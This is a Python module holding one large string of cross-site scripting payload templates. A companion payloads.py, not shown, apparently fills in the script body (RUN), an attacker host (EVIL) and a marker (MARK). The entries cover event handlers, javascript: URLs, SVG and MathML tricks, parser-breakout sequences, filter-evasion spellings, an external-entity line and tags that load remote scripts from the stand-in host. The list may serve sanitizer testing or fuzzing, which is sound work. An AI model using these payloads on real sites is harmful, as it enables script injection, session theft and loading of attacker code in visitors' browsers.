"""Elements that payloads.py fills in: see there for RUN, EVIL and MARK."""

# Elements that run a script by themselves or when a visitor touches them.
ELEMENTS = '''
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<sCrIpT MARK>RUN</ScRiPt >
<script/x>RUN</script>
<script >RUN</script\t>
<script src=data:text/javascript,RUN></script>
<script src="EVIL/a.js"></script>
<script type=module>RUN</script>
<script type="text/ecmascript" async>RUN</script>
<script language=javascript>RUN//</script>
<script>/*</script><script>*/RUN</script>
<<script>RUN//<</script>
<scr<script>ipt>RUN</scr</script>ipt>
<img src=x onerror=RUN>
<img src=x onerror="RUN" MARK>
<img src=x: onerror='RUN'>
<img/src=x/onerror=RUN>
<img\tsrc=x\tonerror=RUN>
<img src=x onerror=RUN//
<IMG SRC=x ONERROR=RUN>
<img """><img src=x onerror=RUN>">
<img src="x` `<img src=x onerror=RUN>"` `>
<img srcset=x onerror=RUN>
<img src=EVIL/a.png>
<img srcset="EVIL/a.png 1x">
<image src=x onerror=RUN>
<picture><source srcset=x><img onerror=RUN src=x></picture>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href=data:text/javascript,RUN />
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x to=1>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg' onload='RUN'/%3E#x">
<svg><image href=x onerror=RUN>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><desc><script>RUN</script></desc></svg>
<svg><animate xlink:href=#x attributeName=href values=javascript:RUN /><a id=x><text y=20>x
<math><mtext><script>RUN</script></mtext></math>
<math><mi xlink:href="javascript:RUN">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<math href="javascript:RUN">x</math>
<body onload=RUN>
<body onpageshow=RUN>
<body background=EVIL/a.png>
<html onmouseover=RUN>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe onload=RUN></iframe>
<iframe src=EVIL/></iframe>
<frameset onload=RUN>
<object data="javascript:RUN"></object>
<object data=EVIL/a onerror=RUN></object>
<embed src="javascript:RUN">
<embed src=EVIL/a.swf>
<applet code=EVIL/a></applet>
<video src=x onerror=RUN></video>
<video><source onerror=RUN></video>
<video poster=EVIL/a.png></video>
<audio src=x onerror=RUN></audio>
<audio autoplay src=EVIL/a.ogg></audio>
<track src=EVIL/a.vtt onerror=RUN>
<details open ontoggle=RUN>x</details>
<dialog open oncancel=RUN onclose=RUN>x</dialog>
<input autofocus onfocus=RUN>
<input type=image src=x onerror=RUN>
<input type=submit formaction=javascript:RUN value=x>
<button onclick=RUN>x</button>
<button formaction=javascript:RUN>x</button>
<select autofocus onfocus=RUN><option>x</select>
<textarea autofocus onfocus=RUN>x</textarea>
<keygen autofocus onfocus=RUN>
<form action=javascript:RUN><input type=submit></form>
<form id=x></form><button form=x formaction=javascript:RUN>x</button>
<isindex type=image src=x onerror=RUN>
<marquee onstart=RUN>x</marquee>
<marquee loop=1 width=0 onfinish=RUN>x</marquee>
<div onmouseover=RUN MARK>x</div>
<div onpointerover=RUN style=position:fixed;inset:0>x</div>
<div tabindex=0 onfocus=RUN>x</div>
<div style="animation:x 1s" onanimationstart=RUN>x</div><style>@keyframes x{}</style>
<div style="transition:all 1s" ontransitionend=RUN>x</div>
<div contenteditable onblur=RUN autofocus>x</div>
<div popover onbeforetoggle=RUN id=x>x</div><button popovertarget=x>x</button>
<a href="javascript:RUN">x</a>
<a href=javascript:RUN MARK>x</a>
<a href="EVIL" ping="EVIL/ping">x</a>
<area shape=rect coords=0,0,9,9 href=javascript:RUN>
<torture-tag onclick=RUN MARK>x</torture-tag>
<x onclick=RUN tabindex=1 onfocus=RUN autofocus>x</x>
<template shadowrootmode=open><img src=x onerror=RUN></template>
<slot onslotchange=RUN></slot>
<noscript><img src=x onerror=RUN></noscript>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<xmp><p title="</xmp><img src=x onerror=RUN>">
<noembed><img src=x onerror=RUN></noembed>
<plaintext><img src=x onerror=RUN>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<table background=EVIL/a.png><td onclick=RUN>x
<table><caption><img src=x onerror=RUN></caption></table>
<option><style></option></select><img src=x onerror=RUN></style>
<style>@import 'EVIL/a.css';</style>
<style>body{background:url(EVIL/a.png)}</style>
<style><!--</style><script>RUN//--></script>
<link rel=stylesheet href=EVIL/a.css>
<link rel=preload as=script href=EVIL/a.js onload=RUN>
<link rel=prefetch href=EVIL/a>
<link rel=dns-prefetch href=EVIL>
<link rel=icon href=EVIL/a.ico>
<link rel=manifest href=EVIL/a.json>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=EVIL">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta name=referrer content=unsafe-url MARK>
<base href=EVIL/>
<base href=javascript:RUN/>
<p style="background:url(EVIL/a.png)">x</p>
<p style="width:expression(RUN)">x</p>
<p style="-moz-binding:url(EVIL/a.xml)">x</p>
<?xml-stylesheet href="javascript:RUN"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "EVIL/a">]>&e;
<!--><img src=x onerror=RUN>-->
<!--!><img src=x onerror=RUN>--!>
<!-- --!><img src=x onerror=RUN>
<![CDATA[<img src=x onerror=RUN>]]>
<![if true]><script>RUN</script><![endif]>
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<?php echo 1 ?><script>RUN</script>
<%00script>RUN</script>
</p></div></main></body><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
</template></noscript></svg></math><img src=x onerror=RUN>
</option></select><script>RUN</script>
</code></pre><script>RUN</script>
</a></h1><script>RUN</script>
--><script>RUN</script>
]]><script>RUN</script>
'''
